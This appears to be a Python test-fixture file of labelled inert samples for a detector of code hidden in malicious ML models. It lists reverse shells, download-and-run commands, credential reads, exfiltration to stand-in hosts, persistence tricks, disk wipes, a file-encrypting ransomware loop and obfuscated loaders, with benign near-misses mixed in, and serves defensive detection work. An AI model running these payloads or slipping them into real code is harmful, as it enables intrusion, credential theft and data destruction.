"""Programs as they were found in malicious models and written up, rebuilt inert, and what each is.

Hosts are example.invalid or of the documentation range 192.0.2.0/24. Nothing here is ever run.
"""

from __future__ import annotations

import base64
import bz2
import codecs
import gzip
import zlib

PYTHON, SHELL = "python", "shell"

REVERSE_SHELL = {"reverse-shell"}
DOWNLOAD = {"download-and-run"}
DEMONSTRATION = {"demonstration"}
DISCOVERY = {"discovery"}
UNCLASSIFIED = {"unclassified"}

_INNER = "import os\nos.system('curl -s http://example.invalid/stage | sh')"
_INNER64 = base64.b64encode(_INNER.encode()).decode()
_GZIPPED = base64.b64encode(gzip.compress(_INNER.encode(), mtime=0)).decode()


def _power(text: str) -> str:
    return base64.b64encode(text.encode("utf-16-le")).decode()


PYTHON_CASES: dict[str, tuple[str, set[str]]] = {
    # Reverse shells.
    "dup2 and call": (
        "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
        "s.connect(('192.0.2.7',4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);"
        "os.dup2(s.fileno(),2);p=subprocess.call(['/bin/sh','-i'])",
        REVERSE_SHELL,
    ),
    "pty": (
        "import socket,os,pty\ns=socket.socket()\ns.connect(('192.0.2.7', 9001))\n"
        "[os.dup2(s.fileno(),fd) for fd in (0,1,2)]\npty.spawn('/bin/bash')",
        REVERSE_SHELL,
    ),
    "inside a function and a thread": (
        "RHOST='192.0.2.7';RPORT=4242\nfrom sys import platform\nif platform != 'win32':\n"
        "    import threading\n    def a():\n        import socket, pty, os\n"
        "        s=socket.socket();s.connect((RHOST,RPORT));[os.dup2(s.fileno(),f) for f in (0,1,2)]\n"
        "        pty.spawn('/bin/sh')\n    threading.Thread(target=a).start()",
        REVERSE_SHELL,
    ),
    "orders by recv": (
        "import socket,subprocess\ns=socket.create_connection(('example.invalid',443))\nwhile True:\n"
        "    c=s.recv(1024).decode()\n    s.send(subprocess.check_output(c,shell=True))",
        REVERSE_SHELL,
    ),
    "names of imports hidden": (
        "s=__import__('soc'+'ket').socket();s.connect(('192.0.2.7',53))\n"
        "getattr(__import__('os'),'pud2'[:0]+'dup2')(s.fileno(),0)\n"
        "__import__('pty').spawn('sh')",
        REVERSE_SHELL,
    ),
    "socket as a parameter": (
        "import socket, subprocess as sp\ndef go(sock):\n    sock.connect(('192.0.2.7', 1))\n"
        "    sp.Popen(['cmd.exe'], stdin=sock, stdout=sock)\ngo(socket.socket())",
        REVERSE_SHELL,
    ),
    "bound to a port": (
        "import socket,os\nl=socket.socket();l.bind(('0.0.0.0',1337));l.listen(1)\nc,a=l.accept()\n"
        "os.dup2(c.fileno(),0)\nos.execl('/bin/sh','sh','-i')",
        REVERSE_SHELL,
    ),
    "shell line in os.system": (
        "import os;os.system(\"bash -c 'bash -i >& /dev/tcp/192.0.2.7/4444 0>&1'\")",
        REVERSE_SHELL,
    ),
    "Python 2": (
        "import socket,os\nprint 'x'\ns=socket.socket()\n"
        "s.connect(('192.0.2.7',1))\nos.dup2(s.fileno(),0)",
        REVERSE_SHELL,
    ),
    "unclosed bracket": (
        "import socket,os\ns=socket.socket()\ns.connect(('192.0.2.7',1))\n"
        "os.dup2(s.fileno(),0)\nfoo((((",
        REVERSE_SHELL,
    ),
    # Download and run.
    "urlopen and exec": (
        "import urllib.request as r\nexec(r.urlopen('http://example.invalid/a.py').read())",
        DOWNLOAD,
    ),
    "requests and eval": (
        "import requests\neval(requests.get('https://example.invalid').text)",
        DOWNLOAD,
    ),
    "retrieve, chmod, run": (
        "import os,urllib.request\nurllib.request.urlretrieve('http://example.invalid/m','/tmp/.m')\n"
        "os.chmod('/tmp/.m',0o755)\nos.system('/tmp/.m &')",
        DOWNLOAD,
    ),
    "wget by subprocess": (
        "import subprocess\nsubprocess.run(['sh','-c','wget -qO- http://example.invalid/i | bash'])",
        DOWNLOAD,
    ),
    "importlib": (
        "i=__import__('importlib').import_module\n"
        "i('os').system('curl http://example.invalid/x -o /tmp/x; chmod +x /tmp/x; /tmp/x')",
        DOWNLOAD,
    ),
    "Python 2 urllib2": (
        "import urllib2\nexec urllib2.urlopen('http://example.invalid/x').read()",
        DOWNLOAD,
    ),
    "pip install": (
        "import subprocess,sys\n"
        "subprocess.check_call([sys.executable,'-m','pip','install','evil-marker'])",
        DOWNLOAD,
    ),
    # Credentials.
    "ssh key": (
        "import os\nk=open(os.path.expanduser('~/.ssh/id_rsa')).read()",
        {"credential-read"},
    ),
    "pathlib": (
        "from pathlib import Path\nPath.home().joinpath('.aws/credentials').read_text()",
        {"credential-read"},
    ),
    "token of the hub": ("import os\nt=os.environ['HF_TOKEN']", {"credential-read"}),
    "getenv": ("from os import getenv as g\ng('OPENAI_API_KEY')", {"credential-read"}),
    "chrome": (
        "import sqlite3,os\n"
        "sqlite3.connect(os.path.join('C:','AppData','Local','Google/Chrome','Login Data'))",
        {"credential-read"},
    ),
    "keyring": ("import keyring\nkeyring.get_password('system','root')", {"credential-read"}),
    "cloud metadata": (
        "import urllib.request\nurllib.request.urlopen('http://169.254.169.254/latest/meta-data/iam/')",
        {"credential-read", "network"},
    ),
    # Exfiltration.
    "environment by post": (
        "import os,requests\nrequests.post('https://example.invalid/c',json=dict(os.environ))",
        {"exfiltration"},
    ),
    "token by get": (
        "import os,requests\nrequests.get('https://example.invalid/?t='+os.environ['HF_TOKEN'])",
        {"exfiltration", "credential-read"},
    ),
    "key by socket": (
        "import socket\ns=socket.socket();s.connect(('192.0.2.7',80))\n"
        "s.sendall(open('/root/.ssh/id_ed25519','rb').read())",
        {"exfiltration", "credential-read"},
    ),
    "host name by name lookup": (
        "import socket\nsocket.gethostbyname(socket.gethostname()+'.example.invalid')",
        {"exfiltration", "discovery"},
    ),
    "webhook": (
        "import requests\nrequests.post('https://webhook.site/weighbridge-marker',data='loaded')",
        {"exfiltration"},
    ),
    # Persistence.
    "bashrc": (
        "import os\nwith open(os.path.expanduser('~/.bashrc'),'a') as f:\n    f.write('echo marker')",
        {"persistence"},
    ),
    "authorized keys": (
        "open('/root/.ssh/authorized_keys','a').write('ssh-ed25519 AAAA marker')",
        {"persistence"},
    ),
    "crontab": (
        "import os\nos.system('(crontab -l; echo \"* * * * * /tmp/m\") | crontab -')",
        {"persistence"},
    ),
    "pth file": (
        "import site\nopen(site.getsitepackages()[0]+'/site-packages/z.pth','w').write('import z')",
        {"persistence"},
    ),
    "run key": (
        "import winreg\nwinreg.SetValueEx(winreg.OpenKey(winreg.HKEY_CURRENT_USER,"
        "r'Software\\Microsoft\\Windows\\CurrentVersion\\Run'),'m',0,1,'m.exe')",
        {"persistence"},
    ),
    # Discovery.
    "platform": ("import platform\nx=platform.platform()", DISCOVERY),
    "whoami": ("import os\nos.system('whoami')", DISCOVERY),
    "subprocess list": ("import subprocess\nsubprocess.check_output(['uname','-a'])", DISCOVERY),
    "accounts": ("import os\nos.system('cat /etc/passwd')", DISCOVERY),
    "debugger": ("import sys\nif sys.gettrace(): sys.exit()", DISCOVERY),
    "container": ("import os\nprint(os.path.exists('/.dockerenv'))", DISCOVERY),
    "list": ("__import__('os').system('ls -la /')", DISCOVERY),
    # Destructive.
    "rmtree": ("import shutil\nshutil.rmtree('/home', ignore_errors=True)", {"destructive"}),
    "rm -rf": ("import os\nos.system('rm -rf /weighbridge-marker')", {"destructive"}),
    "ransom": (
        "import os\nfrom cryptography.fernet import Fernet\nf=Fernet(Fernet.generate_key())\n"
        "for d,_,names in os.walk('/'):\n    for n in names:\n        p=os.path.join(d,n)\n"
        "        open(p+'.x','wb').write(f.encrypt(open(p,'rb').read()))\n        os.remove(p)",
        {"destructive"},
    ),
    # Obfuscated.
    "base64 of a stage": (
        f"import base64\nexec(base64.b64decode('{_INNER64}'))",
        {"obfuscated", "download-and-run"},
    ),
    "zlib and base64": (
        "exec(__import__('zlib').decompress(__import__('base64').b64decode("
        f"{base64.b64encode(zlib.compress(_INNER.encode()))!r})))",
        {"obfuscated", "download-and-run"},
    ),
    "decoded by a loop": (
        f"import base64 as b\nd='{_GZIPPED}'\nfor i in range(1):\n    d=b.b64decode(d)\nexec(d)",
        {"obfuscated", "download-and-run"},
    ),
    "hex": (
        f"exec(bytes.fromhex('{_INNER.encode().hex()}').decode())",
        {"obfuscated", "download-and-run"},
    ),
    "bz2 literal": (
        f"import bz2\nexec(bz2.decompress({bz2.compress(_INNER.encode())!r}))",
        {"obfuscated", "download-and-run"},
    ),
    "rot13": (
        f"import codecs\nexec(codecs.decode({codecs.encode(_INNER, 'rot13')!r},'rot13'))",
        {"obfuscated", "download-and-run"},
    ),
    "character codes": (
        f"exec(''.join(map(chr,{list(_INNER.encode())})))",
        {"obfuscated", "download-and-run"},
    ),
    "xor": (
        f"exec(''.join(chr(b^7) for b in {bytes(b ^ 7 for b in _INNER.encode())!r}))",
        {"obfuscated", "download-and-run"},
    ),
    "reversed names": (
        "getattr(__import__('so'[::-1]),'metsys'[::-1])('hs | dilavni.elpmaxe//:ptth lruc'[::-1])",
        {"obfuscated", "download-and-run"},
    ),
    # Network alone.
    "beacon": (
        "import urllib.request\nurllib.request.urlopen('https://example.invalid/ping')",
        {"network"},
    ),
    # Demonstrations.
    "print": ("print('hello')", DEMONSTRATION),
    "echo": ("import os\nos.system('echo weighbridge-marker')", DEMONSTRATION),
    "calculator": ("__import__('subprocess').Popen(['calc.exe'])", DEMONSTRATION),
    "touch": ("import os; os.system('touch /tmp/weighbridge-marker')", DEMONSTRATION),
    "nested print": ("exec(\"exec('print(1)')\")", DEMONSTRATION),
    # Near misses.
    "training script": (
        "import os\nos.makedirs('out/checkpoints', exist_ok=True)\n"
        "for epoch in range(3):\n    print(epoch)",
        UNCLASSIFIED,
    ),
    "requests without a call": ("import requests\nimport socket\nimport subprocess", UNCLASSIFIED),
    "arithmetic": ("1 + 1", UNCLASSIFIED),
    "a path in a comment": ("# see ~/.ssh/id_rsa\nx = 1", UNCLASSIFIED),
    "a path in a text alone": ("message = 'never commit ~/.ssh/id_rsa'", UNCLASSIFIED),
    "a variable that is no secret": ("import os\nn = int(os.environ['LOCAL_RANK'])", UNCLASSIFIED),
    "list method": ("x = []\nx.append(1)\nx.connect = 3", UNCLASSIFIED),
    "random letters": ("k = 'QmFzZTY0TG9va2luZ1JhbmRvbQ'\nsave(k)", UNCLASSIFIED),
    "an image in base64": (
        f"logo = '{base64.b64encode(bytes(range(256)) * 4).decode()}'\nshow(logo)",
        UNCLASSIFIED,
    ),
    "write a log": ("open('train.log','w').write('done')", UNCLASSIFIED),
}

SHELL_CASES: dict[str, tuple[str, set[str]]] = {
    "dev tcp": ("bash -i >& /dev/tcp/192.0.2.7/4444 0>&1", REVERSE_SHELL),
    "dev tcp by exec": (
        "exec 5<>/dev/tcp/192.0.2.7/4444; cat <&5 | while read l; do $l; done",
        REVERSE_SHELL,
    ),
    "nc -e": ("nc -e /bin/sh 192.0.2.7 4444", REVERSE_SHELL),
    "mkfifo": (
        "rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 192.0.2.7 4444 >/tmp/f",
        REVERSE_SHELL,
    ),
    "socat": ("socat TCP:192.0.2.7:4444 EXEC:'bash -li',pty", REVERSE_SHELL),
    "python -c": (
        'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("192.0.2.7",1));'
        '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("sh")\'',
        REVERSE_SHELL,
    ),
    "PowerShell TCPClient": (
        "powershell -nop -c \"$c=New-Object System.Net.Sockets.TCPClient('192.0.2.7',4444);"
        '$s=$c.GetStream();iex $d"',
        REVERSE_SHELL,
    ),
    "curl to sh": ("curl -fsSL https://example.invalid/i.sh | sh", DOWNLOAD),
    "wget to bash with sudo": ("wget -qO- http://example.invalid | sudo bash -s --", DOWNLOAD),
    "process substitution": ("bash <(curl -s http://example.invalid/x)", DOWNLOAD),
    "command substitution": ('sh -c "$(curl -fsSL http://example.invalid/x)"', DOWNLOAD),
    "download, chmod, run": (
        "cd /tmp && wget http://example.invalid/m && chmod 777 m && ./m",
        DOWNLOAD,
    ),
    "certutil": (
        "cmd /c certutil -urlcache -f http://example.invalid/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe",
        DOWNLOAD,
    ),
    "IEX": (
        "powershell IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a')",
        DOWNLOAD,
    ),
    "encoded command": (
        f"powershell.exe -NoP -W Hidden -Enc {_power('IEX(iwr http://example.invalid/a)')}",
        {"download-and-run", "obfuscated"},
    ),
    "base64 to bash": (
        f"echo {base64.b64encode(b'curl http://example.invalid/x | sh').decode()} | base64 -d | bash",
        {"download-and-run", "obfuscated"},
    ),
    "hex by xxd": (
        f"printf {b'rm -rf ~/marker'.hex()} | xxd -r -p | sh",
        {"destructive", "obfuscated"},
    ),
    "eval of a literal": ("eval 'curl http://example.invalid/x | sh'", DOWNLOAD),
    "shadow": ("cat /etc/shadow", {"credential-read"}),
    "key by curl": (
        "curl -F file=@$HOME/.ssh/id_rsa https://example.invalid",
        {"credential-read", "exfiltration"},
    ),
    "who am I by curl": ("curl http://example.invalid/$(whoami)", {"discovery", "exfiltration"}),
    "environment by curl": ("env | curl -d @- https://example.invalid", {"exfiltration"}),
    "name lookup": ("nslookup `hostname`.example.invalid", {"discovery", "exfiltration"}),
    "bashrc": ("echo 'sh /tmp/m &' >> ~/.bashrc", {"persistence"}),
    "scheduled task": ("schtasks /create /tn m /tr m.exe /sc onlogon", {"persistence"}),
    "run key": (
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v m /d m.exe",
        {"persistence"},
    ),
    "identity": ("id; uname -a", DISCOVERY),
    "tasks": ("tasklist", DISCOVERY),
    "wipe": ("dd if=/dev/zero of=/dev/sda bs=1M", {"destructive"}),
    "fork bomb": (":(){ :|:& };:", {"destructive"}),
    "recursive delete on Windows": ("cmd /c del /s /q C:\\Users", {"destructive"}),
    "echo": ("echo weighbridge-marker", DEMONSTRATION),
    "sh -c echo": ("sh -c 'echo weighbridge-marker'", DEMONSTRATION),
    "calculator": ("C:\\Windows\\System32\\calc.exe", DEMONSTRATION),
    "touch": ("touch /tmp/weighbridge-marker", DEMONSTRATION),
    "echo that mentions": ("echo 'please do not rm -rf anything'", DEMONSTRATION),
    "make": ("make all", UNCLASSIFIED),
    "ffmpeg": ("ffmpeg -i in.wav -ar 16000 out.wav", UNCLASSIFIED),
    "curl alone": ("curl https://example.invalid/ping", {"network"}),
}
